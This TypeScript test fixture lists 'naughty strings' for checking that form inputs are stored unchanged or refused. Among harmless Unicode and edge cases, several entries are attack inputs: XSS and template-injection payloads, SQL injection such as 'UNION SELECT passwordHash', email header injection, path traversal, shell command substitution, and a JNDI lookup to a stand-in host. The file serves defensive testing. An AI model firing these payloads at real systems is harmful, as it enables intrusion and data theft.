// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these texts contain such placeholders on purpose.

/** Texts that have broken forms before. Each must be stored unchanged or refused with a message. */
export const naughtyStrings: string[] = [
  // Texts that look like other values
  ...["undefined", "null", "NULL", "nil", "None", "true", "false", "on", "off", "NaN", "Infinity"],
  ...["-Infinity", "0", "-0", "00", "1e309", "0x0", "0b1", "1_000", "1,000.00", "9007199254740993", "\\"],
  ...["\\\\", "''", '""'],
  ...["__proto__", "constructor", "toString", "hasOwnProperty", "prototype", "length", "then", "valueOf"],
  // Unusual spaces, and invisible text
  ..." \u00a0\u1680\u2000\u2003\u202f\u205f\u3000\ufeff".split(""),
  ...["\u200b", "\u200d", "\u2060", "\u00ad", "\u180e", "\u3164", "\u2800", "\u115f", "\u034f"],
  ...["\t", "\v", "\f", "\r", "\n", "\r\n", "\x85", "\u2028", "\u2029", "a\u2028b", "line\nline", "tail\r\n"],
  // Control characters, including NUL
  ...["\0", "a\0b", "\x01", "\x07bell", "\x08", "\x1b[31mred\x1b[0m", "\x7f", "\x80\x9f", "\ufffe\uffff"],
  // Lone surrogates, and characters of every kind
  ...["\ud800", "\udc00", "a\ud83d", "\udca9\ud83d", "\ufffd", "\u{10ffff}", "\u{1f4a9}", "𝒜𝓁𝒶𝓃", "ﬁ"],
  ...["ß", "İı", "K"],
  ...["👩‍👩‍👧‍👦", "🏳️‍🌈", "🇺🇳", "👍🏿", "❤️", "ᚠᛇᚻ", "田中さん", "ﷺ", "์ก็็็็็็็็", "Z̮̞̠͙͔ͅA̰̗L̰̥̞͍G̷̝̲͔O͇̬͎̱", "é", "e\u0301", "Å"],
  // Right-to-left text, and characters that change the direction
  ...["مرحبا", "עִבְרִית", "\u202egnp.exe", "\u2066a\u2069", "a\u200fb\u200e", "سلام <b>x</b>"],
  ...["abc\u202d\u202ecba"],
  // HTML, scripts and styles
  ...["<script>alert(1)</script>", "<ScRiPt/src=//x.example>", "<img src=x onerror=alert(1)>"],
  ...["</textarea><b>", "<svg/onload=alert(1)>", '"><i>', "' onmouseover='alert(1)", "javascript:alert(1)"],
  ...["<!--", "]]>", "<![CDATA[", "&lt;b&gt;", "&amp;", "&#0;", "&#x202e;", "{{7*7}}", "${7*7}", "#{7*7}"],
  ...["<%= 7*7 %>", "{{constructor}}", "%{7}", "<style>*{display:none}</style>", "expression(alert(1))"],
  ...["<a href='data:text/html,x'>", "<?xml version='1.0'?>"],
  // SQL
  ...["'", "';", "1;DROP TABLE ContactMessage", "' OR '1'='1", "1' OR 1=1--", "'; DELETE FROM Account; --"],
  ...["%", "_", "\\'; --", "0x27", "' UNION SELECT passwordHash FROM Account --", "?", "$1", ":name"],
  ...["@name", "x'00'", "`"],
  // Email headers and transport
  ...["a\r\nBcc: b@example.com", "a\nSubject: x", "%0aBcc:b@example.com", "=?utf-8?B?Qg==?=", "."],
  ...["\r\n.\r\n", "From x", "a,b", "a;b", "<a@example.com>", "Ada <a@example.com>"],
  ...['"quoted" <a@b.example>', "(comment)", "a:b;", "-- \nx"],
  // Shells, paths, formats and addresses
  ...["../../etc/passwd", "..\\..\\windows", "/dev/null", "CON", "file:///etc/passwd", "$HOME", "`id`"],
  ...["$(id)", "|id", "%s%s%s%n", "%d", "%00", "%0d%0a", "%c0%ae", "+", "&a=b", "#", "=1+1", "@SUM(1)"],
  ...["-1+1", "\\u0000", "\\x00", "http://169.254.169.254/", "//x.example", "\\\\x.example\\y"],
  ...["mailto:a@b.example", "tel:+1", "http://[::1]/"],
  // Lookups in logs, and markup in documents
  ...["${jndi:ldap://x.example/a}", "%{(#a=1)}", "[link](javascript:alert(1))", "*bold*", "# title", "```"],
  ...["---\na: b", '{"a":1}', "[1,2]", '{"$ne":null}', "<xml/>", "<!ENTITY a SYSTEM 'file:///etc/passwd'>"],
  ...['O:8:"stdClass":0:{}'],
  // Harmless names that programs have rejected
  ...["Null", "Test", "Mr. O'Brien", "Jean-Luc Picard", "Ñandú", "Scunthorpe", "van der Berg", "X Æ A-12"],
  ...["李", "Ó", "Ng"],
  // Long texts
  ...["a".repeat(100), "a".repeat(101), "😀".repeat(50), "😀".repeat(51), "é".repeat(101)],
  ...["\u0301".repeat(90)],
];

/** One or two of each kind, chosen for different failures. */
export const naughtySample: string[] = [
  ...["undefined", "9007199254740993", "__proto__", "\u00a0", "\u200b", "line\nline", "\x85", "\0"],
  ...["\x1b[31mred\x1b[0m", "\ud800", "a\ud83d", "\u{10ffff}", "e\u0301", "\u202egnp.exe"],
  ...["<script>alert(1)</script>", "]]>", "{{7*7}}", "'; DELETE FROM Account; --", "%"],
  ...["a\r\nBcc: b@example.com", "\r\n.\r\n", "../../etc/passwd", "%s%s%s%n", "=1+1"],
  ...["${jndi:ldap://x.example/a}", "[link](javascript:alert(1))", '{"$ne":null}', "a".repeat(101)],
  ...["😀".repeat(51)],
];
